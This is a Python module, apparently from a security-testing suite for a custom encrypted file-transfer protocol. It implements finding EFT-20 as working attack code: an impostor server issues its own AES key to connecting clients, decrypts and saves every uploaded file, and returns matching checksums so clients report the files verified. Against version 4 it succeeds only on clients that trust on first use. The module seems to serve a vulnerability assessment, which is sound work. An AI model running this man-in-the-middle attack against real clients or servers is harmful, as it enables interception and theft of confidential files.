"""The server's view turned around: an impersonated server reads every file, and the
client reports each one verified.

Version 3 never authenticates the server, and the AES key a client encrypts with is
chosen by whoever answers: the RSA key in the exchange is the client's own, so it proves
nothing about the other side. An impostor at the server's address (a man in the middle,
a hijacked name or port; no real server is needed) plays the whole server:

1. 825: answer 1600 with an id of its own; 827 (a client registered earlier): answer
   1606, and the client registers again (EFT-19), which gives us the 826 we need.
2. 826: the client's public key arrives in the clear; answer 1602 with an AES key of
   our own, wrapped with it.
3. 828: every file arrives encrypted under our key: decrypt it (the loot) and answer
   1603 with its true CRC; the client sends 900, we answer 1604.

The client exits 0 and reports every file ``file_verified``: "verified" means only
"whoever answered computed the same CRC"; the file was never stored anywhere but here.

``--protocol 4``: the server proves its static key in message 2. The attempt plays a
whole version-4 server with a key of its own (our server's state machine over an
in-memory registry, as ``mitm-key --protocol 4`` does; ``--target`` is opened but never
used). A client that pinned the real server (or was given ``--server-fingerprint``)
stops after message 2 with exit 7 and reveals nothing; a client at its first contact,
with no fingerprint configured, trusts us (EFT-01, trust on first use).
"""

from __future__ import annotations

import argparse
import asyncio
import os
from dataclasses import dataclass, field
from pathlib import Path

from eft_protocol import crypto, errors
from eft_protocol.cksum import cksum
from eft_protocol.codes import REQUEST_HEADER, RequestCode
from eft_protocol.wire import (
    Acknowledged,
    FileReceived,
    PublicKeyAccepted,
    ReconnectDenied,
    Registered,
)

from .common import (
    AttackError,
    Out,
    add_listen_argument,
    impersonate_once,
    keep_plaintext,
    preview,
)
from .framing import Frame, parse_frame
from .mitm_key import Impostor as ImpostorV4
from .proxy import MitmProxy
from .v4 import add_protocol_argument

FINDING = "EFT-20"
SUMMARY = "an impersonated server hands out its own AES key and reads every file"


def add_arguments(parser: argparse.ArgumentParser) -> None:
    add_listen_argument(parser)
    parser.add_argument("--out", help="directory to save the files the client sends us")
    parser.add_argument("--target", help="version 4: the real server (opened, never relayed to)")
    add_protocol_argument(parser)


async def read_request(reader: asyncio.StreamReader) -> Frame:
    """One whole request from the client (raises IncompleteReadError at its close)."""
    header = await reader.readexactly(REQUEST_HEADER.size)
    size = REQUEST_HEADER.unpack(header)[-1]
    if size > 1 << 26:  # no client of ours sends more in one 828; refuse to buffer it
        raise AttackError(f"a request of {size} bytes")
    return parse_frame(header + await reader.readexactly(size), requests=True)


@dataclass
class V3Impostor:
    """Plays a version-3 server toward one client at a time; keeps what it learns."""

    out: Out
    out_dir: Path | None
    client_id: bytes = field(default_factory=lambda: os.urandom(16))
    aes_keys: list[bytes] = field(default_factory=list)
    denied: list[str] = field(default_factory=list)  # ids whose 827 we answered 1606
    files: list[dict[str, object]] = field(default_factory=list)
    confirmed: list[str] = field(default_factory=list)  # file names the client 900'd
    _key: bytes | None = None
    _ciphertext: dict[str, bytearray] = field(default_factory=dict)

    def answer(self, frame: Frame) -> bytes | None:
        code = frame.code
        if code == RequestCode.REGISTER:
            self.out.step("825: answering 1600 with an id of ours", name=frame.name_field())
            return Registered(self.client_id).encode()
        if code == RequestCode.RECONNECT:
            assert frame.client_id is not None
            self.denied.append(frame.client_id.hex())
            self.out.step("827 from a registered client: answering 1606", id=frame.client_id)
            return ReconnectDenied(frame.client_id).encode()
        if code == RequestCode.SEND_PUBLIC_KEY:
            public_key = crypto.load_public_key(frame.payload[255:])
            self._key = crypto.new_aes_key()
            self.aes_keys.append(self._key)
            self.out.step("826: the client's public key; answering 1602 with our AES key")
            wrapped = crypto.wrap_aes_key(public_key, self._key)
            return PublicKeyAccepted(self.client_id, wrapped).encode()
        if code == RequestCode.SEND_FILE:
            return self._packet(frame)
        if code in (RequestCode.CRC_OK, RequestCode.CRC_RETRY, RequestCode.CRC_GIVE_UP):
            if code == RequestCode.CRC_OK:
                self.confirmed.append(frame.name_field())
                self.out.step(f"900: the client reports {frame.name_field()!r} verified")
            return Acknowledged(self.client_id).encode()
        return None

    def _packet(self, frame: Frame) -> bytes | None:
        packet, content = frame.packet()
        if packet.number == 1:
            self._ciphertext[packet.file_name] = bytearray()
        buffer = self._ciphertext.setdefault(packet.file_name, bytearray())
        buffer += content
        if packet.number < packet.total:
            return None
        ciphertext = bytes(self._ciphertext.pop(packet.file_name))
        if self._key is None:
            raise AttackError("an 828 before we handed out a key")
        try:
            plaintext = crypto.decrypt_file_bytes(self._key, ciphertext)
        except errors.ProtocolError as exc:
            raise AttackError(f"{packet.file_name}: undecryptable: {exc}") from None
        self._keep(packet.file_name, plaintext)
        return FileReceived(
            self.client_id, len(ciphertext), packet.file_name, cksum(plaintext)
        ).encode()

    def _keep(self, name: str, plaintext: bytes) -> None:
        self.out.step(f"decrypted {name!r}", size=len(plaintext), plaintext=preview(plaintext))
        self.files.append(keep_plaintext(self.out_dir, name, plaintext))


async def run_v3(args: argparse.Namespace, out: Out) -> bool:
    impostor = V3Impostor(out, Path(args.out) if args.out else None)

    async def talk(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        while True:
            try:
                frame = await read_request(reader)
            except (asyncio.IncompleteReadError, ConnectionError):
                return
            if (answer := impostor.answer(frame)) is not None:
                writer.write(answer)
                await writer.drain()

    await impersonate_once(args.listen, args.timeout, out, talk)
    verified = [f for f in impostor.files if f["file_name"] in impostor.confirmed]
    fields = {
        "files": impostor.files,
        "confirmed": impostor.confirmed,
        "reconnect_denied": impostor.denied,
        "aes_keys": [key.hex() for key in impostor.aes_keys],
        "client_id": impostor.client_id.hex(),
    }
    if verified:
        return out.result(
            True,
            f"read {len(verified)} file(s) under our own AES key; the client reports them verified",
            **fields,
        )
    return out.result(False, "the client sent no file we could read", **fields)


async def run_v4(args: argparse.Namespace, out: Out) -> bool:
    impostor = ImpostorV4(out, Path(args.out) if args.out else None, 0, 1)
    proxy = MitmProxy(args.target, impostor, out)
    await proxy.run(args.listen, args.timeout)
    fields = {
        "fingerprint": impostor.fingerprint,
        "message_3": impostor.message_3,
        "learned": impostor.learned,
        "files": impostor.recovered,
    }
    if impostor.recovered:
        return out.result(True, "the client trusted our key and uploaded to us", **fields)
    said = "sent message 3" if impostor.message_3 else "never sent message 3"
    return out.result(False, f"the client refused our key and {said}", **fields)


async def run(args: argparse.Namespace, out: Out) -> bool:
    if args.protocol == 4:
        if not args.target:
            raise AttackError("version 4 needs --target (the real server)")
        return await run_v4(args, out)
    return await run_v3(args, out)
